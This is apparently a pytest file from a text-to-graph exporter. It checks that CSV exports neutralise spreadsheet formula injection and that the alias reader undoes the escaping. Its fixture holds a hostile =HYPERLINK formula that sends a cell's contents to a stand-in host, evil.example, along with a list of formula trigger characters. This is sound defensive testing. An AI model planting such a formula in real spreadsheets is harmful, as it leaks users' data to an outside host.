"""Formula injection: the CSV files the exporter writes guard every text cell from documents, and
the alias reader takes the guard off again (no model needed)."""
from __future__ import annotations

import csv

import networkx as nx

from graph.aliases import load_aliases
from graph.export import write_outputs

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SENTENCE = "=1+1 @Smith went to +Plus."
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph(title="Hostile", documents=1)
    for name, kind, mentions in [(LINK, "ORG", 2), ("@Smith", "PERSON", 1), ("John @Smith", "PERSON", 5),
                                 ("+Plus", "GPE", 3), ("-Minus", "GPE", 3), ("\tTab", "GPE", 1), ("Normal", "GPE", 2)]:
        g.add_node(name, label=name, type=kind, aliases=[name], mentions=mentions, documents=1)
    g.add_edge("+Plus", "@Smith", key="cooccurrence", kind="cooccurrence", weight=1, npmi=-0.25, pmi=-1.5,
               evidence=[{"doc": "@doc", "sentence": SENTENCE}])
    g.add_edge("-Minus", "Normal", key="-attack", kind="relation", predicate="-attack", category="assault", weight=1,
               negated=False, symmetric=False, modality="asserted", confidence=0.9,
               evidence=[{"doc": "d1", "sentence": "-Minus attacked Normal."}])
    g.add_edge(LINK, "\tTab", key="cooccurrence", kind="cooccurrence", weight=1, npmi=0.5,
               evidence=[{"doc": "d1", "sentence": "x"}])
    return g


def rows(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_exports_guard_text_cells_and_leave_numbers(tmp_path):
    write_outputs(hostile_graph(), tmp_path, ("csv",))
    nodes = {r["Label"]: r for r in rows(tmp_path / "nodes.csv")}
    assert set(nodes) == {"'" + LINK, "'@Smith", "John @Smith", "'+Plus", "'-Minus", "'\tTab", "Normal"}
    assert all(r["Id"] == r["Label"] and r["Aliases"] == r["Label"] for r in nodes.values())
    edges = rows(tmp_path / "edges.csv")
    assert {(e["Source"], e["Target"]) for e in edges} <= {(a, b) for a in nodes for b in nodes}, "edges still join nodes"
    smith = next(e for e in edges if e["Target"] == "'@Smith")
    assert smith["Source"] == "'+Plus" and smith["NPMI"] == "-0.25" and smith["PMI"] == "-1.5", "numbers stay numbers"
    assert smith["Evidence"] == "[@doc] " + SENTENCE
    attack = next(e for e in edges if e["Kind"] == "relation")
    assert attack["Label"] == "'-attack" and attack["Confidence"] == "0.9"
    duplicates = rows(tmp_path / "possible_duplicates.csv")
    assert [(r["alias"], r["canonical"], r["reason"], r["example"]) for r in duplicates] == [
        ("'@Smith", "John @Smith", "surname", "'" + SENTENCE)]
    numeric = {"NPMI", "PMI", "Weight", "Confidence", "Mentions", "alias_mentions", "canonical_mentions"}
    for name in ("nodes.csv", "edges.csv", "possible_duplicates.csv"):
        for row in rows(tmp_path / name):
            for column, cell in row.items():
                assert column in numeric or not cell.startswith(TRIGGERS), (name, column, cell)


def test_possible_duplicates_reads_back_as_the_names_themselves(tmp_path):
    write_outputs(hostile_graph(), tmp_path, ("csv",))
    aliases = load_aliases(tmp_path / "possible_duplicates.csv")
    assert [(r.alias, r.canonical, r.type) for r in aliases.rules] == [("@Smith", "John @Smith", "PERSON")]
